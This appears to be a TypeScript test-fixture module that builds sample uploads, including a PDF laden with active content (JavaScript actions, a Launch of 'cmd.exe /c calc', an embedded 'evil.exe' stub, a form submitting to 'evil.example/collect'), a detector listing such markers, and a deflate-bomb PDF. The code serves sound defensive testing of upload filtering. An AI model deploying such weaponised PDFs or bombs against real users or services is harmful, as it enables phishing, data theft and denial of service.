/** Real small files of each type the platform accepts (and one it must not). */
import { randomBytes } from 'node:crypto';
import { PNG } from 'pngjs';
import { ZipFile } from 'yazl';

/** A minimal valid one-page PDF carrying `extra` random bytes in an unreferenced stream (for sizes). */
export function pdfFile(extra = 1024): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let at = parts[0].length;
  const add = (...b: Buffer[]) => {
    for (const x of b) {
      parts.push(x);
      at += x.length;
    }
  };
  const obj = (body: string | Buffer[]) => {
    offsets.push(at);
    const n = offsets.length;
    if (typeof body === 'string') add(Buffer.from(`${n} 0 obj\n${body}\nendobj\n`, 'latin1'));
    else add(Buffer.from(`${n} 0 obj\n`), ...body, Buffer.from('\nendobj\n'));
  };
  obj('<< /Type /Catalog /Pages 2 0 R >>');
  obj('<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  obj('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>');
  const filler = randomBytes(Math.floor(extra));
  obj([Buffer.from(`<< /Length ${filler.length} >>\nstream\n`), filler, Buffer.from('\nendstream')]);
  const xref = at;
  add(
    Buffer.from(
      `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`,
    ),
  );
  add(Buffer.from(`trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`));
  return Buffer.concat(parts);
}

export function pngFile(width = 8, height = 8): Buffer {
  const png = new PNG({ width, height });
  for (let i = 0; i < png.data.length; i++) png.data[i] = (i * 37) & 0xff;
  return PNG.sync.write(png);
}

/** A Windows executable's first bytes ("MZ", the DOS stub) followed by noise. */
export const exeFile = (): Buffer => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(2048)]);

/** A minimal Office Open XML package: word/, xl/ or ppt/ decides what it is. */
export function officeFile(part: 'word' | 'xl' | 'ppt'): Promise<Buffer> {
  const zip = new ZipFile();
  zip.addBuffer(
    Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    '[Content_Types].xml',
  );
  zip.addBuffer(Buffer.from('<?xml version="1.0"?><Relationships/>'), '_rels/.rels');
  zip.addBuffer(
    Buffer.from('<?xml version="1.0"?><document/>'),
    `${part}/${part === 'word' ? 'document' : part === 'xl' ? 'workbook' : 'presentation'}.xml`,
  );
  zip.end();
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    zip.outputStream
      .on('data', (d: Buffer) => parts.push(d))
      .on('end', () => resolve(Buffer.concat(parts)))
      .on('error', reject);
  });
}

/** A real, readable PDF of `pages` pages (pdf-lib), each page carrying `marker`. */
export async function readablePdf(marker: string, pages = 2): Promise<Buffer> {
  const { PDFDocument, StandardFonts } = await import('pdf-lib');
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 0; i < pages; i++) doc.addPage([595, 842]).drawText(`${marker} page ${i + 1}`, { x: 60, y: 760, size: 14, font });
  return Buffer.from(await doc.save());
}

/**
 * A PDF that tries to do things when opened: /OpenAction and catalog /AA scripts, /Names
 * /JavaScript and /EmbeddedFiles, a page /AA, link annotations with URI, Launch, GoToR and a
 * JavaScript stream, a file attachment, a form field with a keystroke script and /AcroForm.
 * Its one page reads `marker`.
 */
export async function activePdf(marker: string): Promise<Buffer> {
  const { PDFDocument, PDFName, PDFString, StandardFonts } = await import('pdf-lib');
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText(`${marker} page 1`, { x: 60, y: 760, size: 14, font });
  const ctx = doc.context;
  const s = (v: string) => PDFString.of(v);
  const js = (code: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: s(code) }));
  const embedded = ctx.register(ctx.stream('MZ this would be an executable', { Type: PDFName.of('EmbeddedFile') }));
  const filespec = ctx.register(ctx.obj({ Type: 'Filespec', F: s('evil.exe'), UF: s('evil.exe'), EF: { F: embedded } }));
  const scriptStream = ctx.register(ctx.stream('app.alert("from a stream")'));
  doc.catalog.set(PDFName.of('OpenAction'), js('app.alert("open")'));
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js('app.alert("will close")') }));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({ JavaScript: { Names: [s('init'), js('app.alert("names")')] }, EmbeddedFiles: { Names: [s('evil.exe'), filespec] } }),
  );
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js('app.alert("page open")'), C: js('app.alert("page close")') }));
  const link = (action: import('pdf-lib').PDFDict, y: number) =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 300, y + 20], Border: [0, 0, 0], A: action }));
  const field = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Tx',
      T: s('name'),
      Rect: [60, 300, 300, 320],
      AA: { K: js('app.alert("keystroke")') },
      A: { S: 'SubmitForm', F: s('https://evil.example/collect') },
    }),
  );
  page.node.set(
    PDFName.of('Annots'),
    ctx.obj([
      link(ctx.obj({ S: 'URI', URI: s('https://evil.example/phish') }), 700),
      link(ctx.obj({ S: 'Launch', F: s('cmd.exe'), Win: { F: s('cmd.exe'), P: s('/c calc') } }), 660),
      link(ctx.obj({ S: 'GoToR', F: s('other.pdf'), D: [0, 'Fit'] }), 620),
      link(ctx.obj({ S: 'JavaScript', JS: scriptStream, Next: js('app.alert("next")') }), 580),
      ctx.register(
        ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [60, 540, 80, 560], FS: filespec, Contents: s('attachment') }),
      ),
      field,
    ]),
  );
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [field] }));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** Everything in a PDF that acts or carries files, found by walking every object (streams decoded). */
export async function activeContentOf(pdf: Buffer): Promise<string[]> {
  const { PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFStream, decodePDFRawStream } = await import('pdf-lib');
  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
  const found = new Set<string>();
  const keys = ['JS', 'JavaScript', 'OpenAction', 'AA', 'AcroForm', 'EmbeddedFiles', 'EF', 'URI', 'Launch'];
  const actions = ['JavaScript', 'Launch', 'URI', 'GoToR', 'GoToE', 'SubmitForm', 'ImportData', 'ResetForm', 'Rendition', 'Sound', 'Movie'];
  const walk = (o: unknown): void => {
    const d = o instanceof PDFStream ? o.dict : o;
    if (d instanceof PDFDict) {
      for (const [k, v] of d.entries()) {
        if (keys.includes(k.decodeText())) found.add(`/${k.decodeText()}`);
        walk(v);
      }
      const sub = d.get(PDFName.of('S'));
      if (sub instanceof PDFName && actions.includes(sub.decodeText())) found.add(`/S /${sub.decodeText()}`);
      const type = d.get(PDFName.of('Type'));
      if (type instanceof PDFName && ['Filespec', 'EmbeddedFile'].includes(type.decodeText())) found.add(`/Type /${type.decodeText()}`);
      const subtype = d.get(PDFName.of('Subtype'));
      if (subtype instanceof PDFName && subtype.decodeText() === 'FileAttachment') found.add('/Subtype /FileAttachment');
    } else if (d instanceof PDFArray) d.asArray().forEach(walk);
  };
  for (const [, obj] of doc.context.enumerateIndirectObjects()) {
    walk(obj);
    let text: string;
    if (obj instanceof PDFRawStream) {
      try {
        text = Buffer.from(decodePDFRawStream(obj).decode()).toString('latin1');
      } catch {
        text = Buffer.from(obj.contents).toString('latin1');
      }
    } else text = obj.toString();
    for (const needle of ['app.alert', 'evil.example', 'cmd.exe', 'evil.exe', 'MZ this would be'])
      if (text.includes(needle)) found.add(`text ${needle}`);
  }
  return [...found].sort();
}

/** A valid PDF whose object stream inflates to `mb` MB of zeros (about `mb` KB on disk). */
export async function pdfWithInflateBomb(mb: number): Promise<Buffer> {
  const { createDeflate } = await import('node:zlib');
  const { Readable } = await import('node:stream');
  const zeros = Buffer.alloc(1 << 20);
  const parts: Buffer[] = [];
  // deflated a megabyte at a time: this process never holds the inflated size
  for await (const d of Readable.from(
    (function* () {
      for (let i = 0; i < mb; i++) yield zeros;
    })(),
  ).pipe(createDeflate({ level: 9 })))
    parts.push(d as Buffer);
  const bomb = Buffer.concat(parts);
  const head =
    '%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n';
  const obj = `4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`;
  const tail = `\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n`;
  return Buffer.concat([Buffer.from(head), Buffer.from(obj), bomb, Buffer.from(tail)]);
}
